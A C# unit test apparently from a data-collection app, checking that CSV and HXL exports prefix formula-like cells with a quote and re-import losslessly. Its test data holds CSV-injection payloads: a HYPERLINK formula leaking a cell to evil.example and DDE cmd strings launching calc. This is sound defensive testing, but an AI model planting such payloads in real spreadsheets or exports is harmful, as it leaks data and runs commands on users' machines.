using System.Net;
using Microsoft.EntityFrameworkCore;
using nietras.SeparatedValues;
using Truce.Access;
using Truce.Import;
using Truce.Monitoring;
using Truce.Storage;
using Truce.Tests.Import;

namespace Truce.Tests.Export;

using Cli = Truce.Tests.Cli.Cli;

/// <summary>
/// CSV and HXL exports neutralise cells a spreadsheet would run as a formula (OWASP: a leading single quote),
/// keep negative numbers numbers, and `truce import` reads its own export back losslessly.
/// </summary>
public sealed class FormulaCellTests
{
    private static readonly string[] Planted =
    [
        "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
        "'=already quoted", "'plain quote",
    ];

    [Theory]
    [InlineData("csv")]
    [InlineData("hxl")]
    public async Task Formula_cells_are_neutralised_and_read_back_as_they_were(string format)
    {
        await using var app = await TruceApp.StartAsync(Engine.Sqlite, settings: new Dictionary<string, string?> { ["RateLimits:SubmissionsPerMinute"] = "0" });
        var admin = await app.ClientAsync("admin2", Role.Administrator);
        foreach (var text in Planted)
        {
            var body = Json.Observation();
            body["narrative"] = text;
            body["areaName"] = text;
            body["source"] = text;
            body["sourceExternalId"] = text;
            body["latitude"] = -12.5;
            body["longitude"] = -45.25;
            Assert.Equal(HttpStatusCode.Created, (await admin.PostAsync("/api/observations", body)).StatusCode);
        }
        var file = ImportFiles.TempPath("." + format);

        Assert.Equal(0, (await Cli.RunAsync("export", format, "--out", file, "--db", app.Location.ConnectionString)).ExitCode);

        var rows = 0;
        using (var reader = Sep.New(',').Reader(o => o with { Unescape = true }).FromFile(file))
        {
            foreach (var row in reader)
            {
                if (row["id"].ToString().StartsWith('#'))
                {
                    continue;
                }
                rows++;
                foreach (var (column, _) in TruceLayout.Layout)
                {
                    var cell = row[column].ToString();
                    if (TruceLayout.IsNumber(column))
                    {
                        Assert.False(cell.StartsWith('\''), $"{column} {cell}");
                    }
                    else
                    {
                        Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', $"{column} starts with a formula character: {cell}");
                    }
                }
                Assert.Equal("-12.5", row["latitude"].ToString());
                Assert.Equal("-45.25", row["longitude"].ToString());
            }
        }
        Assert.Equal(Planted.Length, rows);
        Assert.Contains("'=HYPERLINK(", File.ReadAllText(file), StringComparison.Ordinal);

        await using var copy = await ScratchStore.CreateAsync(Engine.Sqlite);
        Assert.Equal(0, (await Cli.RunAsync("migrate", "--db", copy.Location.ConnectionString)).ExitCode);
        var imported = await Cli.RunAsync("import", "truce", file, "--db", copy.Location.ConnectionString);
        Assert.True(imported.ExitCode == 0, imported.Error);
        await using var a = app.Store.Open();
        await using var b = new Store(copy.Location, TimeProvider.System).Open();
        var before = await a.Observations.AsNoTracking().OrderBy(o => o.Id).ToListAsync();
        var after = await b.Observations.AsNoTracking().OrderBy(o => o.Id).ToListAsync();
        Assert.Equal(before.Select(Text), after.Select(Text));
    }

    private static string Text(Observation o) => string.Join('|', o.Id, o.Narrative, o.AreaName, o.Source, o.SourceExternalId, o.Latitude, o.Longitude);
}
